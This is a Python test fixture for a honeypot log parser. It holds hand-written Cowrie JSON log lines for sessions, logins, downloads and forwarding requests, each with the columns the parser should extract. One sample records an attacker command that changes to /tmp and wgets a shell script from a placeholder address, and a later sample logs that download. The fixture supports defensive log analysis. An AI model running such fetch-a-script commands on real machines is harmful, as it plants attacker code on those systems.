"""Lines that the cowrie pack must read, one for each kind of drift.

Written by hand: the addresses, names and ids belong to nobody.
"""

from __future__ import annotations

from typing import Final

from evidentia.pack.contract import Sample

SAMPLES: Final = (
    # A current release: compact, times in milliseconds.
    Sample(
        line=(
            b'{"eventid":"cowrie.session.closed",'
            b'"duration_ms":1305,"message":"Connection lost after 1.3 seconds",'
            b'"sensor":"north","uuid":"6a1f0c52-0000-11f0-8000-000000000001",'
            b'"timestamp":"2026-01-01T00:00:01.500000Z","src_ip":"192.0.2.7",'
            b'"session":"0123456789ab","protocol":"ssh"}'
        ),
        columns={
            "kind": "cowrie.session.closed",
            "ts": 1_767_225_601_500_000,
            "ts_text": "2026-01-01T00:00:01.500000Z",
            "actor": "192.0.2.7",
            "session_id": "0123456789ab",
            "sensor": "north",
            "protocol": "ssh",
            "duration_ms": 1_305,
            "event_id": None,
        },
    ),
    # An old release: spaced, seconds as a number, no protocol.
    Sample(
        line=(
            b'{"eventid": "cowrie.session.closed",'
            b' "timestamp": "2018-05-12T00:04:17.704987Z",'
            b' "message": "Connection lost after 1 seconds",'
            b' "system": "HoneyPotSSHTransport,11,198.51.100.9",'
            b' "isError": 0, "src_ip": "198.51.100.9",'
            b' "duration": 1.3048639297485352, "session": "a8d0c8ca",'
            b' "sensor": "east"}'
        ),
        columns={
            "kind": "cowrie.session.closed",
            "ts": 1_526_083_457_704_987,
            "actor": "198.51.100.9",
            "session_id": "a8d0c8ca",
            "sensor": "east",
            "protocol": None,
            "duration_ms": 1_305,
        },
    ),
    # A release in between: seconds as a text.
    Sample(
        line=(
            b'{"eventid":"cowrie.log.closed","ttylog":"var/lib/cowrie/tty/0000",'
            b'"size":7,"shasum":"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca49'
            b'5991b7852b855","duplicate":true,"duration":"88.7",'
            b'"message":"Closing TTY Log: var/lib/cowrie/tty/0000 after 88.7 seconds'
            b'","sensor":"north","timestamp":"2026-01-01T00:02:00.000001Z",'
            b'"src_ip":"2001:db8::7","session":"0123456789ab","protocol":"telnet"}'
        ),
        columns={
            "kind": "cowrie.log.closed",
            "ts": 1_767_225_720_000_001,
            "actor": "2001:db8::7",
            "duration_ms": 88_700,
            "protocol": "telnet",
            "shasum": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        },
    ),
    # A message that is a list.
    Sample(
        line=(
            b'{"eventid":"cowrie.session.params","arch":"linux-x64-lsb",'
            b'"message":[],"sensor":"north",'
            b'"timestamp":"2026-01-01T00:00:02.000000Z","src_ip":"192.0.2.7",'
            b'"session":"0123456789ab","protocol":"ssh"}'
        ),
        columns={
            "kind": "cowrie.session.params",
            "payload_json": '{"arch":"linux-x64-lsb","protocol":"ssh"}',
        },
    ),
    # A login by public key: no password.
    Sample(
        line=(
            b'{"eventid":"cowrie.login.success","username":"root",'
            b'"fingerprint":"00:11:22:33","key":"AAAA","type":"ssh-ed25519",'
            b'"message":"public key login attempt for [root] succeeded",'
            b'"sensor":"north","timestamp":"2026-01-01T00:00:03.000000Z",'
            b'"src_ip":"192.0.2.7","session":"0123456789ab","protocol":"ssh"}'
        ),
        columns={
            "kind": "cowrie.login.success",
            "username": "root",
            "password": None,
        },
    ),
    # A command, kept as it was typed.
    Sample(
        line=(
            b'{"eventid":"cowrie.command.input",'
            b'"input":"cd /tmp; wget http://203.0.113.5/x.sh",'
            b'"message":"CMD: cd /tmp; wget http://203.0.113.5/x.sh",'
            b'"sensor":"north","timestamp":"2026-01-01T00:00:04.000000Z",'
            b'"src_ip":"192.0.2.7","session":"0123456789ab","protocol":"ssh"}'
        ),
        columns={
            "kind": "cowrie.command.input",
            "input": "cd /tmp; wget http://203.0.113.5/x.sh",
        },
    ),
    # A download.
    Sample(
        line=(
            b'{"eventid":"cowrie.session.file_download",'
            b'"url":"http://203.0.113.5/x.sh",'
            b'"outfile":"var/lib/cowrie/downloads/0f",'
            b'"shasum":"0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f'
            b'0f0f","destfile":"/tmp/x.sh",'
            b'"message":"Downloaded URL (http://203.0.113.5/x.sh)",'
            b'"sensor":"north","timestamp":"2026-01-01T00:00:05.000000Z",'
            b'"src_ip":"192.0.2.7","session":"0123456789ab","protocol":"ssh"}'
        ),
        columns={
            "kind": "cowrie.session.file_download",
            "url": "http://203.0.113.5/x.sh",
            "shasum": "0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f",
        },
    ),
    # A forwarding request whose target is a host name.
    Sample(
        line=(
            b'{"eventid":"cowrie.direct-tcpip.request","dst_ip":"example.org",'
            b'"dst_port":443,"src_ip":"192.0.2.7",'
            b'"src_port":0,"message":"direct-tcp connection request to example.org:4'
            b'43","sensor":"north","timestamp":"2026-01-01T00:00:06.000000Z",'
            b'"session":"0123456789ab"}'
        ),
        columns={
            "kind": "cowrie.direct-tcpip.request",
            "actor": "192.0.2.7",
            "protocol": None,
        },
    ),
    # An event outside any session, of a kind that the pack does not know.
    Sample(
        line=(
            b'{"eventid":"cowrie.someday.new","message":"hello","sensor":"north",'
            b'"timestamp":"2026-01-01T00:00:07.000000Z"}'
        ),
        columns={
            "kind": "cowrie.someday.new",
            "actor": None,
            "session_id": None,
            "payload_json": "{}",
        },
    ),
)
